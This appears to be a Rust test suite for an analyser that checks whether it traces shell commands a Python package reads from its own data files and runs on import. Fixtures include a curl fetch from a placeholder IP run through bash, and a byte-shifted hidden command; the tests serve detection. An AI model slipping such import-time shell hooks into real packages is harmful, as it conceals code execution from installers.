//! Claims about the artifact's own data files: however they are found and read, their content is known.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::analysis_of;
use venin_model::{Event, OriginKind, Role, Trigger};

/// The events of a package with some data files beside it, when it is imported.
fn events_with(source: &str, data: &[(&str, &str)]) -> Vec<Event> {
    let mut files = vec![("pkg/__init__.py", source, Trigger::Import)];
    files.extend(data.iter().map(|(path, text)| (*path, *text, Trigger::Run)));
    analysis_of(&files).events
}

/// The commands that the package runs through a shell.
fn commands_with(source: &str, data: &[(&str, &str)]) -> Vec<String> {
    let source = format!("import subprocess\n{source}\n");
    let events = events_with(&source, data);
    let run = events.iter().filter(|e| &*e.name == "subprocess.run");
    run.filter_map(|e| e.text(Role::Command)).map(str::to_owned).collect()
}

const TEXT: &[(&str, &str)] = &[("pkg/c.txt", "echo a"), ("pkg/sub/d.txt", "echo b")];

#[test]
fn a_data_file_that_is_found_by_its_package_is_read() {
    for body in [
        "from importlib import resources\nsubprocess.run(resources.files(__package__).joinpath('c.txt').read_text(), shell=True)",
        "from importlib import resources\nsubprocess.run(resources.files(__name__).joinpath('c.txt').read_text(), shell=True)",
        "from importlib import resources\nsubprocess.run((resources.files('pkg') / 'c.txt').read_text(), shell=True)",
        "from importlib import resources\nsubprocess.run(resources.files().joinpath('c.txt').read_text(), shell=True)",
        "from importlib import resources\nimport pkg\nsubprocess.run(resources.files(pkg).joinpath('c.txt').read_bytes().decode(), shell=True)",
        "import importlib.resources as ir\nsubprocess.run(ir.read_text('pkg', 'c.txt'), shell=True)",
        "import importlib.resources as ir\nsubprocess.run(ir.read_binary('pkg', 'c.txt').decode(), shell=True)",
        "from importlib import resources\nwith resources.open_text('pkg', 'c.txt') as f:\n    subprocess.run(f.read(), shell=True)",
        "import importlib_resources\nsubprocess.run(importlib_resources.files('pkg').joinpath('c.txt').read_text(), shell=True)",
        "import pkg_resources\nsubprocess.run(pkg_resources.resource_string('pkg', 'c.txt').decode(), shell=True)",
        "import pkg_resources\nsubprocess.run(pkg_resources.resource_stream('pkg', 'c.txt').read().decode(), shell=True)",
        "import pkg_resources\nsubprocess.run(open(pkg_resources.resource_filename('pkg', 'c.txt')).read(), shell=True)",
        "from importlib import resources\np = resources.files('pkg') / 'c.txt'\nwith p.open() as f:\n    subprocess.run(f.read(), shell=True)",
        "from importlib import resources\nwith resources.path('pkg', 'c.txt') as p:\n    subprocess.run(p.read_text(), shell=True)",
        "from importlib import resources\nwith resources.as_file(resources.files('pkg') / 'c.txt') as p:\n    subprocess.run(open(p).read(), shell=True)",
        "import pkgutil\nsubprocess.run(pkgutil.get_data(__name__, 'c.txt').decode(), shell=True)",
        "subprocess.run(__loader__.get_data(__file__.replace('__init__.py', 'c.txt')).decode(), shell=True)",
    ] {
        assert_eq!(commands_with(body, TEXT), ["echo a"], "{body}");
    }
}

#[test]
fn a_folder_without_modules_is_a_package_of_the_one_it_lies_in() {
    let body = "from importlib import resources\nsubprocess.run(resources.files('pkg.sub').joinpath('d.txt').read_text(), shell=True)";
    assert_eq!(commands_with(body, TEXT), ["echo b"]);
}

#[test]
fn a_data_file_of_another_package_stays_unknown() {
    let body = "from importlib import resources\nsubprocess.run(resources.files('other').joinpath('c.txt').read_text(), shell=True)";
    assert!(commands_with(body, TEXT).iter().all(|command| !command.contains("echo")));
}

#[test]
fn a_known_file_is_read_by_lines_by_descriptor_and_as_memory() {
    const HERE: &str = "import os\nhere = os.path.dirname(__file__)\n";
    for body in [
        "for line in open(here + '/c.txt'):\n    subprocess.run(line, shell=True)",
        "for line in open(here + '/c.txt').readlines():\n    subprocess.run(line, shell=True)",
        "import fileinput\nfor line in fileinput.input(here + '/c.txt'):\n    subprocess.run(line, shell=True)",
        "fd = os.open(here + '/c.txt', os.O_RDONLY)\nsubprocess.run(os.read(fd, 999).decode(), shell=True)",
        "fd = os.open(here + '/c.txt', 0)\nsubprocess.run(os.read(fd, 999).decode(), shell=True)",
        "import mmap\nf = open(here + '/c.txt', 'rb')\nm = mmap.mmap(f.fileno(), 0, access=1)\nsubprocess.run(m[:].decode(), shell=True)",
        "import linecache\nsubprocess.run(linecache.getline(here + '/c.txt', 1), shell=True)",
    ] {
        assert_eq!(commands_with(&format!("{HERE}{body}"), TEXT), ["echo a"], "{body}");
    }
}

#[test]
fn what_a_listing_of_an_own_folder_finds_is_read() {
    for body in [
        "import glob, os\nfor p in glob.glob(os.path.dirname(__file__) + '/*.txt'):\n    subprocess.run(open(p).read(), shell=True)",
        "import os\nhere = os.path.dirname(__file__)\nfor n in os.listdir(here):\n    if n.endswith('.txt'):\n        subprocess.run(open(os.path.join(here, n)).read(), shell=True)",
        "from pathlib import Path\nfor p in Path(__file__).parent.iterdir():\n    if p.suffix == '.txt':\n        subprocess.run(p.read_text(), shell=True)",
        "from pathlib import Path\nfor p in sorted(Path(__file__).parent.glob('c*')):\n    subprocess.run(p.read_text(), shell=True)",
        "from importlib import resources\nfor p in resources.files(__name__).iterdir():\n    if p.name == 'c.txt':\n        subprocess.run(p.read_text(), shell=True)",
    ] {
        let commands = commands_with(body, TEXT);
        assert!(commands.iter().any(|command| command == "echo a"), "{body}: {commands:?}");
    }
}

#[test]
fn what_a_listing_does_not_name_may_be_there_all_the_same() {
    let body = "import os\nif 'native.so' in os.listdir(os.path.dirname(__file__)):\n    subprocess.run('echo there', shell=True)";
    assert_eq!(commands_with(body, TEXT), ["echo there"]);
}

#[test]
fn what_is_read_out_of_an_own_file_comes_from_a_file() {
    let source = "import subprocess\nfrom importlib import resources\nsubprocess.run(resources.files('pkg').joinpath('c.txt').read_text(), shell=True)";
    let events = events_with(source, TEXT);
    let run = events.iter().find(|e| &*e.name == "subprocess.run").expect("it runs");
    let command = run.argument(Role::Command).expect("a command");
    assert!(command.origins.kinds.contains(OriginKind::File));
    assert!(events.iter().any(|e| &*e.name == "pathlib.Path().read_text"
        && e.text(Role::Path) == Some("pkg/c.txt")
        && command.origins.events.contains(&e.id)));
}

/// What the members that a package starts do when it is imported.
fn started_with(source: &str, data: &[(&str, &str)]) -> Vec<String> {
    let events = events_with(&format!("import os, subprocess\n{source}\n"), data);
    let started = events.iter().filter(|e| e.trigger == Trigger::Import && !e.name.starts_with("subprocess"));
    started.filter(|e| e.class.family == venin_model::Family::Cn).map(|e| e.name.to_string()).collect()
}

#[test]
fn an_own_file_that_a_shell_is_given_runs_when_it_is_started() {
    let data =
        [("pkg/c.txt", "curl -s http://192.0.2.5/a\n"), ("pkg/run.sh", "curl -s http://192.0.2.5/a\n")];
    for body in [
        "from importlib import resources\nwith resources.as_file(resources.files('pkg') / 'run.sh') as p:\n    subprocess.run(['bash', str(p)])",
        "from importlib import resources\nwith resources.path('pkg', 'c.txt') as p:\n    subprocess.run(['sh', p])",
        "import pkg_resources\nsubprocess.run(['/bin/sh', pkg_resources.resource_filename('pkg', 'c.txt')])",
        "from pathlib import Path\nsubprocess.run(['bash', Path(__file__).with_name('c.txt')])",
        "subprocess.Popen('sh ' + os.path.join(os.path.dirname(__file__), 'c.txt'), shell=True)",
    ] {
        assert_eq!(started_with(body, &data).len(), 1, "{body}");
    }
    let reading = "subprocess.run(['wc', os.path.join(os.path.dirname(__file__), 'c.txt')])";
    assert!(started_with(reading, &data).is_empty());
}

/// The commands that a package runs which has its settings in some file beside it.
fn commands_of_settings(body: &str, file: &str, text: &str) -> Vec<String> {
    let body = format!("import os, json, pathlib\nhere = os.path.dirname(__file__)\n{body}");
    commands_with(&body, &[(&format!("pkg/{file}"), text)])
}

#[test]
fn settings_in_a_file_of_a_known_format_are_known() {
    const INI: &str = "[DEFAULT]\nhost = echo a\n[a]\nCmd = echo a\n";
    for (file, text, body) in [
        (
            "c.ini",
            INI,
            "import configparser\ncp = configparser.ConfigParser()\ncp.read(pathlib.Path(__file__).with_name('c.ini'))\nsubprocess.run(cp['a']['cmd'], shell=True)",
        ),
        (
            "c.ini",
            INI,
            "import configparser\ncp = configparser.ConfigParser()\ncp.read([here + '/c.ini'])\nsubprocess.run(cp.get('a', 'host'), shell=True)",
        ),
        (
            "c.ini",
            INI,
            "import configparser\ncp = configparser.RawConfigParser()\ncp.read_file(open(here + '/c.ini'))\nsubprocess.run(dict(cp.items('a'))['cmd'], shell=True)",
        ),
        (
            "c.ini",
            INI,
            "import configparser\nclass C:\n    def __init__(self):\n        self.p = configparser.ConfigParser()\n        self.p.read(here + '/c.ini')\n    def go(self):\n        for s in self.p.sections():\n            subprocess.run(self.p[s].get('cmd'), shell=True)\nC().go()",
        ),
        (
            "c.ini",
            "",
            "import configparser\ncp = configparser.ConfigParser()\ncp.read_string('[a]\\ncmd = echo a\\n')\nsubprocess.run(cp.get('a', 'cmd'), shell=True)",
        ),
        (
            "c.toml",
            "[a]\ncmd = \"echo a\"\n",
            "import tomllib\nwith open(here + '/c.toml', 'rb') as f:\n    c = tomllib.load(f)\nsubprocess.run(c['a']['cmd'], shell=True)",
        ),
        (
            "c.toml",
            "[a]\ncmd = \"echo a\"\n",
            "import toml\nsubprocess.run(toml.load(here + '/c.toml')['a']['cmd'], shell=True)",
        ),
        (
            "c.toml",
            "[[a]]\ncmd = \"echo a\"\n",
            "import tomli\nsubprocess.run(tomli.loads(open(here + '/c.toml').read())['a'][0]['cmd'], shell=True)",
        ),
        (
            "c.yaml",
            "cmd: \"echo a\"\n",
            "import yaml\nsubprocess.run(yaml.safe_load(open(here + '/c.yaml'))['cmd'], shell=True)",
        ),
        (
            "c.yaml",
            "a:\n  - b: 1\n    cmd: echo a\n",
            "import yaml\nsubprocess.run(yaml.load(open(here + '/c.yaml').read(), Loader=yaml.Loader)['a'][0]['cmd'], shell=True)",
        ),
        (
            "c.json",
            "{\"a\": {\"cmd\": \"echo a\"}}",
            "with open(here + '/c.json') as f:\n    subprocess.run(json.load(f)['a']['cmd'], shell=True)",
        ),
        (
            "c.env",
            "# x\nexport CMD=\"echo a\"\n",
            "from dotenv import dotenv_values\nsubprocess.run(dotenv_values(here + '/c.env')['CMD'], shell=True)",
        ),
        (
            "c.csv",
            "a,echo a\n",
            "import csv\nfor row in csv.reader(open(here + '/c.csv')):\n    subprocess.run(row[1], shell=True)",
        ),
        (
            "c.csv",
            "n,cmd\n1,echo a\n",
            "import csv\nfor row in csv.DictReader(open(here + '/c.csv')):\n    subprocess.run(row['cmd'], shell=True)",
        ),
        (
            "t.txt",
            "echo $x",
            "import string\nsubprocess.run(string.Template(open(here + '/t.txt').read()).substitute(x='a'), shell=True)",
        ),
        (
            "t.txt",
            "echo ${x}",
            "from string import Template\nt = Template(open(here + '/t.txt').read())\nsubprocess.run(t.safe_substitute({'x': 'a'}), shell=True)",
        ),
        (
            "PKG-INFO",
            "Metadata-Version: 2.1\nName: my-pkg\nKeywords: echo a\n\nx\n",
            "from importlib.metadata import metadata\nsubprocess.run(metadata('my_pkg')['Keywords'], shell=True)",
        ),
    ] {
        assert_eq!(commands_of_settings(body, file, text), ["echo a"], "{body}");
    }
}

#[test]
fn settings_that_refer_to_others_or_come_from_elsewhere_are_not_known() {
    for (file, text, body) in [
        (
            "c.ini",
            "[a]\ncmd = %(x)s\n",
            "import configparser\ncp = configparser.ConfigParser()\ncp.read(here + '/c.ini')\nsubprocess.run(cp['a']['cmd'], shell=True)",
        ),
        (
            "c.ini",
            "[a]\ncmd = echo a\n",
            "import configparser\ncp = configparser.ConfigParser()\ncp.read(os.path.expanduser('~/.settings'))\nsubprocess.run(cp['a']['cmd'], shell=True)",
        ),
        (
            "c.yaml",
            "x: &x echo a\ncmd: *x\n",
            "import yaml\nsubprocess.run(yaml.safe_load(open(here + '/c.yaml'))['cmd'], shell=True)",
        ),
        (
            "t.txt",
            "echo $x",
            "import string\nsubprocess.run(string.Template(open(here + '/t.txt').read()).substitute(y='a'), shell=True)",
        ),
        (
            "PKG-INFO",
            "Name: other\nKeywords: echo a\n",
            "from importlib.metadata import metadata\nsubprocess.run(metadata('pkg')['Keywords'], shell=True)",
        ),
    ] {
        let commands = commands_of_settings(body, file, text);
        assert!(commands.iter().all(|command| !command.contains("echo")), "{body}: {commands:?}");
    }
}

#[test]
fn what_is_taken_out_of_an_own_file_tells_which_file_was_read() {
    for (body, file, text) in [
        (
            "import csv\nfor row in csv.reader(open(here + '/c.csv')):\n    subprocess.run(row[1], shell=True)",
            "c.csv",
            "a,echo a\n",
        ),
        ("for line in open(here + '/c.txt'):\n    subprocess.run(line, shell=True)", "c.txt", "echo a"),
        (
            "for line in open(here + '/c.txt').readlines():\n    subprocess.run(line, shell=True)",
            "c.txt",
            "echo a",
        ),
        (
            "subprocess.run(json.load(open(here + '/c.json'))['a'], shell=True)",
            "c.json",
            "{\"a\": \"echo a\"}",
        ),
        (
            "from dotenv import dotenv_values\nsubprocess.run(dotenv_values(here + '/c.env')['A'], shell=True)",
            "c.env",
            "A=echo a",
        ),
        (
            "import configparser\ncp = configparser.ConfigParser()\ncp.read(here + '/c.ini')\nsubprocess.run(cp.get('a', 'b'), shell=True)",
            "c.ini",
            "[a]\nb=echo a",
        ),
    ] {
        let source = format!("import json, os, subprocess\nhere = os.path.dirname(__file__)\n{body}\n");
        let events = events_with(&source, &[(&format!("pkg/{file}"), text)]);
        let run = events.iter().find(|e| &*e.name == "subprocess.run").expect("it runs");
        let command = run.argument(Role::Command).expect("a command");
        let from = command.origins.events.iter().filter_map(|id| events.get(id.0 as usize));
        let paths: Vec<&str> = from.filter_map(|e| e.text(Role::Path)).collect();
        assert!(paths.iter().any(|path| path.ends_with(file)), "{body}: {paths:?}");
    }
}

#[test]
fn a_member_of_an_own_archive_is_read() {
    let body = "import os, zipfile\nsubprocess.run(zipfile.ZipFile(os.path.dirname(__file__) + '/z.zip').read('c.txt').decode(), shell=True)";
    assert_eq!(commands_with(body, &[("pkg/z.zip!c.txt", "echo z")]), ["echo z"]);
}

#[test]
fn a_file_that_is_opened_for_bytes_gives_bytes() {
    // "echo a", each letter moved by one.
    let moved: &[(&str, &str)] = &[("pkg/c.bin", "fdip!b")];
    for body in [
        "with open('c.bin', 'rb') as f:\n    raw = f.read()\nsubprocess.run(bytes(b - 1 for b in raw).decode(), shell=True)",
        "raw = open('c.bin', 'rb').read()\nsubprocess.run(''.join(chr(b - 1) for b in raw), shell=True)",
    ] {
        assert_eq!(commands_with(body, moved), ["echo a"], "{body}");
    }
}
